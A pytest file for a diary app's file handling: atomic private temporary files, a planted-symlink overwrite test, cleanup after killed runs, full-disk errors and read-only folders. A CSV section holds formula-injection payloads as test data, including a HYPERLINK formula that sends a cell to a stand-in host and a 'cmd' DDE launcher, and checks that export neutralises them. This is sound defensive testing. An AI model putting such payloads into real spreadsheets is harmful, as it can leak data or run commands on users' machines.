"""Files and disks (issue 12): exclusive temporary files, leftovers cleaned, a demo or a safety copy
named only when whole, and a full disk said as such."""

from __future__ import annotations

import errno
import os
import signal
import sqlite3
import subprocess
import sys
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from osteotrack.cli import cli
from osteotrack.domain.records import Entry
from osteotrack.store import Diary, schema
from osteotrack.store.files import TEMP_MARK, atomic_write
from tests.conftest import ROOT
from tests.functional.helpers import assert_refused, digest, entries
from tests.functional.test_bad_files import damaged
from tests.support import active, integrity


def _diary(path: Path, *notes: str) -> Path:
    with Diary.open(path) as diary:
        for i, note in enumerate(notes):
            active(diary).add_entry(Entry(at=datetime(2026, 3, 1 + i, 9, tzinfo=timezone.utc), pain=i, note=note))
    return path


def _run(db: Path, *args: str):
    return CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)


def _hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


# -- 1. exclusive temporary files -------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["export", "-o", "{out}"],
    ["export", "--format", "csv", "-o", "{out}"],
    ["report", "--format", "html", "-o", "{out}"],
    ["report", "--format", "md", "-o", "{out}"],
])
def test_a_planted_symlink_at_the_old_temporary_name_is_not_followed(tmp_path, monkeypatch, args):
    # Earlier versions wrote through ".<name>.<pid>.tmp", opened without O_EXCL: a link planted
    # there made the export overwrite whatever it pointed at.
    monkeypatch.chdir(tmp_path)
    db = _diary(tmp_path / "diary.db", "a note")
    out = tmp_path / "out.file"
    victim = tmp_path / "victim"
    victim.write_text("precious")
    os.symlink(victim, tmp_path / f".{out.name}.{os.getpid()}.tmp")
    result = _run(db, *[a.format(out=out) for a in args])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious"
    assert out.is_file() and not out.is_symlink() and out.stat().st_mode & 0o777 == 0o600


def test_the_temporary_file_is_unpredictable_private_and_gone_after_an_interrupt(tmp_path):
    target = tmp_path / "out.json"
    seen = []
    with pytest.raises(KeyboardInterrupt):
        with atomic_write(target) as handle:
            name = Path(os.readlink(f"/proc/self/fd/{handle.fileno()}"))
            seen.append((name.name, name.stat().st_mode & 0o777))
            handle.write("half")
            raise KeyboardInterrupt
    [(name, mode)] = seen
    assert name.startswith(f".out.json{TEMP_MARK}{os.getpid()}-") and name.endswith(".tmp") and mode == 0o600
    assert list(tmp_path.iterdir()) == []


def test_a_full_disk_while_exporting_leaves_nothing_and_says_where(tmp_path, monkeypatch):
    db = _diary(tmp_path / "diary.db", "a note")
    import osteotrack.views.csv_export as csv_export

    def full(diary, handle, chosen):
        handle.write(b"PK half a zip")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(csv_export, "write_csv_zip", full)
    out = tmp_path / "out.zip"
    result = CliRunner().invoke(cli, ["--db", str(db), "export", "--format", "csv", "-o", str(out)])
    assert_refused(result, f"Cannot write {out}: no space left on device.")
    assert not out.exists() and _hidden(tmp_path) == []


def test_only_the_files_module_writes_files():
    # Every file the app writes goes through store/files.py (exclusive, 0600, fsync, renamed,
    # removed when interrupted); store/leftovers.py only removes our own leftovers.
    import re

    writer = re.compile(r"os\.open\(|(?<!archive\.)\bopen\([^)]*['\"][wax]|\bopen\([^)]*r\+|write_bytes\(|write_text\(|"
                        r"os\.replace\(|os\.rename\(|shutil\.(copy|copy2|copyfile|move)\(|mkstemp|NamedTemporaryFile")
    package = ROOT / "osteotrack"
    allowed = {package / "store" / "files.py"}
    offenders = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in sorted(package.rglob("*.py")) if path not in allowed
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if writer.search(line)
    ]
    assert offenders == []


# -- 2. leftovers of killed runs ---------------------------------------------------------

KILL_DURING_BACKUP = """
import os, signal, sys
import osteotrack.store.backup as backup
def killed(conn, path, quick=False):
    os.kill(os.getpid(), signal.SIGKILL)
backup.check_integrity = killed
from osteotrack.store.backup import backup_diary
backup_diary(sys.argv[1])
"""


def test_a_killed_backup_leaves_a_copy_that_the_next_run_removes(tmp_path):
    db = _diary(tmp_path / "diary.db", "private")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", KILL_DURING_BACKUP, str(db)], env=env, timeout=60)
    assert done.returncode == -signal.SIGKILL
    [left] = [n for n in _hidden(tmp_path) if TEMP_MARK in n]  # the whole diary, hidden
    assert left.startswith(".diary.backup-")
    # Not ours, or ours but of a writer still running: kept.
    theirs = [".diary.db.notes.tmp", f".x{TEMP_MARK}{os.getpid()}-abc.tmp", ".osteotrack-1.tmp"]
    for name in theirs:
        (tmp_path / name).write_text("keep")
    # An earlier version's leftover of a dead process: ours too.
    (tmp_path / f".diary.before-restore-2026.db.{_dead_pid()}.tmp").write_text("old")
    assert _run(db, "log", "--pain", "3").exit_code == 0
    assert _hidden(tmp_path) == sorted(theirs)
    assert not list(tmp_path.glob("*backup*"))


def test_a_retried_migration_replaces_its_own_earlier_copy(db_path, monkeypatch):
    _diary(db_path, "kept")
    calls = []

    def m002_profile_colour(db):
        calls.append(1)
        if len(calls) == 1:
            raise KeyboardInterrupt  # the first upgrade is interrupted
        db["profiles"].add_column("colour", str)

    monkeypatch.setattr(schema, "STEPS", [*schema.STEPS, m002_profile_colour])
    monkeypatch.setattr(schema, "STEP_NAMES", [*schema.STEP_NAMES, "m002_profile_colour"])
    with pytest.raises(KeyboardInterrupt):
        Diary.open(db_path)
    Diary.open(db_path).close()
    Diary.open(db_path).close()
    assert sorted(p.name for p in db_path.parent.glob("*before*")) == ["diary.before-m002_profile_colour.db"]
    assert integrity(db_path.with_name("diary.before-m002_profile_colour.db")) == "ok"
    assert _hidden(db_path.parent) == []


# -- 3. an interrupted demo ----------------------------------------------------------------

def test_an_interrupted_demo_leaves_nothing_and_demo_force_works(tmp_path, monkeypatch):
    import osteotrack.demo as demo

    target = tmp_path / "demo.db"
    real = demo.build_demo

    def interrupted(person, years, seed, end, progress):
        def stop(done, total):
            if done * 2 >= total:
                raise KeyboardInterrupt

        return real(person, years, seed, end, stop)

    monkeypatch.setattr(demo, "build_demo", interrupted)
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "own.db"), "demo", "--years", "0.2", "--db",
                                      str(target)])
    assert result.exit_code != 0
    assert not target.exists() and [p.name for p in tmp_path.iterdir()] == []
    monkeypatch.setattr(demo, "build_demo", real)
    for args in (["demo"], ["demo", "--force"]):
        result = CliRunner().invoke(cli, ["--db", str(tmp_path / "own.db"), *args, "--years", "0.2", "--db",
                                          str(target)])
        assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["demo.db"]


def test_a_replaced_demo_is_a_whole_new_demo(tmp_path):
    from osteotrack.demo import write_demo

    target = tmp_path / "demo.db"
    write_demo(target, years=0.2, end=date(2026, 11, 24))
    write_demo(target, years=0.2, end=date(2026, 11, 24))
    with Diary.open(target, read_only=True) as diary:
        assert diary.setting("demo") == "1" and integrity(target) == "ok"


# -- 4. restore on a full disk ---------------------------------------------------------------

def _full_copy(monkeypatch, after: int = 65536):
    """The disk fills up after ``after`` bytes of the raw safety copy."""
    import shutil

    def copy(data, out, length=0):
        out.write(data.read(after))
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(shutil, "copyfileobj", copy)


def test_restore_over_a_damaged_diary_on_a_full_disk_names_no_half_copy_and_replaces_nothing(tmp_path,
                                                                                             monkeypatch):
    broken = damaged(tmp_path)
    backup = _diary(tmp_path / "good.db", "good")
    before = digest(broken)
    _full_copy(monkeypatch, after=4096)
    result = CliRunner().invoke(cli, ["--db", str(broken), "restore", str(backup), "--yes"])
    assert_refused(result, "no space left on device")
    assert digest(broken) == before
    assert not list(tmp_path.glob("*before-restore*")) and _hidden(tmp_path) == []


def test_restore_stops_when_the_safety_copy_cannot_be_made(tmp_path, monkeypatch):
    db = _diary(tmp_path / "diary.db", "mine")
    backup = _diary(tmp_path / "good.db", "good")
    before = digest(db)
    _fill_the_disk_for_copies(monkeypatch)
    result = CliRunner().invoke(cli, ["--db", str(db), "restore", str(backup), "--yes"])
    assert_refused(result, "is full, so the backup was not written; the diary is unchanged")
    assert digest(db) == before
    assert not list(tmp_path.glob("*before-restore*")) and _hidden(tmp_path) == []


# -- 5. a full disk, said as such ----------------------------------------------------------------

def _fill_the_disk_for_copies(monkeypatch):
    """SQLite reports a full disk (SQLITE_FULL) while writing any temporary copy: a page limit of 2."""
    real = sqlite3.connect

    def connect(target, *args, **kwargs):
        conn = real(target, *args, **kwargs)
        if str(target).endswith(".tmp"):
            conn.execute("PRAGMA max_page_count = 2")
        return conn

    monkeypatch.setattr(sqlite3, "connect", connect)


def test_a_backup_onto_a_full_disk_blames_the_disk_not_the_diary(tmp_path, monkeypatch):
    db = _diary(tmp_path / "diary.db", "mine")
    target = tmp_path / "b.db"
    _fill_the_disk_for_copies(monkeypatch)
    result = CliRunner().invoke(cli, ["--db", str(db), "backup", str(target)])
    assert_refused(result, f"The disk holding {target} is full, so the backup was not written")
    assert not target.exists() and _hidden(tmp_path) == []


def test_an_import_onto_a_full_disk_says_so(tmp_path, monkeypatch):
    source = _diary(tmp_path / "source.db", *[f"note {i} " * 800 for i in range(10)])
    exported = tmp_path / "all.json"
    assert _run(source, "export", "-o", str(exported)).exit_code == 0
    db = _diary(tmp_path / "diary.db")
    import osteotrack.store.diary as store_diary

    real = store_diary.connect

    def small_disk(path, read_only):
        conn = real(path, read_only)
        if not read_only:  # the diary may not grow by more than a few pages
            pages = conn.execute("PRAGMA page_count").fetchone()[0]
            conn.execute(f"PRAGMA max_page_count = {pages + 3}")
        return conn

    monkeypatch.setattr(store_diary, "connect", small_disk)
    result = CliRunner().invoke(cli, ["--db", str(db), "import", str(exported)])
    assert_refused(result, f"The disk holding {db} is full, so nothing was saved; the diary is as it was.")
    monkeypatch.undo()
    assert entries(db) == []


# -- 8. CSV cells never run as formulas --------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "'=already quoted by me", "'just a quote", "-5"]


def test_csv_export_and_list_neutralise_formulas_and_import_reads_them_back(tmp_path):
    import csv
    import io
    import zipfile

    db = tmp_path / "diary.db"
    for i, note in enumerate(FORMULAS):
        assert _run(db, "log", "--pain", "4", "--at", f"2026-11-{i + 1:02d} 09:00", "--note", note).exit_code == 0
    assert _run(db, "question", "add", "=1+1").exit_code == 0
    listed = list(csv.DictReader(io.StringIO(_run(db, "list", "--format", "csv").output)))
    out = tmp_path / "all.zip"
    assert _run(db, "export", "--format", "csv", "-o", str(out)).exit_code == 0
    with zipfile.ZipFile(out) as archive:
        exported = list(csv.DictReader(io.StringIO(archive.read("entries.csv").decode("utf-8"))))
        [question] = csv.DictReader(io.StringIO(archive.read("questions.csv").decode("utf-8")))
    expected = ["'" + FORMULAS[0], "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)",
                "''=already quoted by me", "'just a quote", "-5"]
    assert sorted(row["note"] for row in listed) == sorted(expected)
    assert [row["note"] for row in exported] == expected and question["question"] == "'=1+1"
    # Numbers stay numbers: pain, and a negative UTC offset.
    assert {row["pain"] for row in exported} == {"4"}
    other = tmp_path / "other.db"
    assert _run(other, "import", str(out)).exit_code == 0
    notes = [e.note for e in entries(other)]
    assert notes == FORMULAS
    with Diary.open(other, read_only=True) as diary:
        assert [q.text for q in active(diary).questions()] == ["=1+1"]


# -- 6. a diary in a folder we may not write ----------------------------------------------------

def _as_a_user_who_cannot_write_there():
    """Tests run as root, who may write anywhere: drop the capabilities that let root ignore a
    folder's permissions (CAP_DAC_OVERRIDE 1, CAP_DAC_READ_SEARCH 2, CAP_FOWNER 3) before the
    command starts, so that it meets the folder as any user does. Run as a user, nothing to drop."""
    if os.geteuid() != 0:
        return
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2, 3):
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def test_a_diary_in_a_folder_we_cannot_write_can_be_read_and_says_so(tmp_path):
    share = tmp_path / "share"
    share.mkdir()
    db = _diary(share / "diary.db", "from the share")
    assert not Path(f"{db}-shm").exists() and not Path(f"{db}-wal").exists()
    share.chmod(0o555)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "120"}

    def run(*args):
        return subprocess.run([sys.executable, "-m", "osteotrack", "--db", str(db), *args], capture_output=True,
                              text=True, env=env, timeout=60, preexec_fn=_as_a_user_who_cannot_write_there)

    try:
        notice = f"osteotrack: Reading {db} read-only: its folder {share} cannot be written"
        for args in (["--read-only", "list"], ["list", "--format", "json"],
                     ["export", "-o", str(tmp_path / "out.json")], ["backup", str(tmp_path / "b.db")]):
            done = run(*args)
            assert done.returncode == 0, (args, done.stderr)
            assert "from the share" in done.stdout or args[0] in ("export", "backup"), done.stdout
            if args[0] != "backup":
                assert done.stderr.startswith(notice) and len(done.stderr.splitlines()) == 1, done.stderr
        assert "from the share" in (tmp_path / "out.json").read_text()
        assert integrity(tmp_path / "b.db") == "ok"
        refused = run("log", "--pain", "4")
        assert refused.returncode == 2
        assert refused.stderr.strip() == (f"osteotrack: Cannot save to {db}: its folder {share} cannot be written, "
                                          "so the diary can only be read; copy it to a folder of yours to write to it.")
        assert sorted(p.name for p in share.iterdir()) == ["diary.db"]
    finally:
        share.chmod(0o700)
